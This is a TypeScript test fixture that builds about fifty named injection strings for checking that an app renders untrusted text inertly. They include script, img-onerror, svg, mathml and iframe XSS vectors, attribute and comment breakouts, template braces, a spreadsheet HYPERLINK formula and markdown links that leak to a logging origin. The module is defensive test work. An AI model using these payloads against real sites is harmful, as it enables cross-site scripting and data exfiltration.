/** What would run, load, or become an element, were it ever more than text. */
export interface InjectionString {
  readonly name: string
  readonly text: string
}

/** Were a script to run, it would set this on the window; were an element made, it would have this class. */
export const canary = 'pwned'

/** As the name of a model; the server answers to it. */
export const injectedModel = `repeats"><img class=${canary} src=x onerror=window.${canary}=1>{{7*7}}`

/** @param origin of a server that keeps a log; nothing of it is to be asked for */
export function injectionStrings(origin: string): readonly InjectionString[] {
  const run = `window.${canary}=1`
  const away = `${origin}/${canary}`
  const image = `<img class="${canary}" src="x" onerror="${run}">`
  const texts: Record<string, string> = {
    script: `<script class="${canary}">${run}</script>`,
    'script from elsewhere': `<script class="${canary}" src="${away}.js"></script>`,
    'script that is closed first': `</script><script class="${canary}">${run}</script>`,
    image,
    'image from elsewhere': `<img class="${canary}" src="${away}.png">`,
    'image without an end': `<img class=${canary} src=x onerror=${run}//`,
    'image in capitals': `<IMG CLASS="${canary}" SRC=x OnErRoR="${run}">`,
    'svg that loads': `<svg class="${canary}" onload="${run}"></svg>`,
    'svg with a script': `<svg class="${canary}"><script>${run}</script></svg>`,
    'svg with an animation': `<svg class="${canary}"><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
    'svg with html in it': `<svg class="${canary}"><foreignObject>${image}</foreignObject></svg>`,
    mathml: `<math class="${canary}"><mi xlink:href="javascript:${run}">x</mi></math>`,
    'mathml that changes when it is parsed again': `<math><mtext><table><mglyph><style><!--</style>${image}-->`,
    'frame with a script address': `<iframe class="${canary}" src="javascript:parent.${canary}=1"></iframe>`,
    'frame with a document': `<iframe class="${canary}" srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
    object: `<object class="${canary}" data="${away}"></object>`,
    embed: `<embed class="${canary}" src="${away}">`,
    'style sheet from elsewhere': `<link class="${canary}" rel="stylesheet" href="${away}.css">`,
    base: `<base class="${canary}" href="${away}/">`,
    'meta that leads elsewhere': `<meta class="${canary}" http-equiv="refresh" content="0;url=${away}">`,
    form: `<form class="${canary}" action="${away}"><button autofocus onfocus="${run}">Send</button></form>`,
    field: `<input class="${canary}" autofocus onfocus="${run}">`,
    details: `<details class="${canary}" open ontoggle="${run}"><summary>More</summary></details>`,
    video: `<video class="${canary}" src="${away}.mp4"><source onerror="${run}"></video>`,
    template: `<template class="${canary}">${image}</template>`,
    'template of a shadow root': `<div class="${canary}"><template shadowrootmode="open">${image}</template></div>`,
    link: `<a class="${canary}" href="javascript:${run}">Refund</a>`,
    'script address': `javascript:${run}//`,
    'data address': `data:text/html,<script>${run}</script>`,
    'end of an attribute': `">${image}`,
    'attribute of its own': `' class='${canary}' onmouseover='${run}`,
    'end of all that reads raw text': `</title></textarea></style></noscript></xmp></template>${image}`,
    'end of a comment': `-->${image}<!--`,
    cdata: `<![CDATA[${image}]]>`,
    'style that hides everything': `</style><style class="${canary}">:root{display:none!important}</style>`,
    'style that loads': `<style class="${canary}">*{background:url(${away}.gif)!important}</style>`,
    'value of a style': `red;background:url(${away});width:expression(${run})`,
    'markdown image': `![invoice](${away}?leak=secret)`,
    'markdown link': `[refund](javascript:${run}) <${away}>`,
    entities: `&lt;img class=${canary} src=x onerror=${run}&gt; &amp;amp; &#60;b&#62;`,
    escapes: `%3Cscript%3E${run}%3C/script%3E \\u003cscript\\u003e +ADw-script+AD4-`,
    braces: `{{constructor.constructor('${run}')()}} \${${run}} #{${run}} <%= ${run} %> %s %n`,
    'prototype name': '__proto__',
    'constructor name': 'constructor',
    'method name': 'hasOwnProperty',
    'formula of a table': `=HYPERLINK("${away}","x")`,
    'right to left': '\u202Eexe.gnp\u202C and \u2067more\u2069',
    'zero width': 'Re\u200Bfu\u200Dnd\uFEFF\u2060s',
    'null character': 'nu\u0000ll and bell\u0007 and \u001B[31mred\u001B[0m',
    'lone surrogates': 'high \uD83D low \uDC99 end',
    'marks on one letter': `Z${'\u0301\u0327'.repeat(60)}`,
    'long word': 'Wa'.repeat(400),
  }
  return Object.entries(texts).map(([name, text]) => ({ name, text }))
}
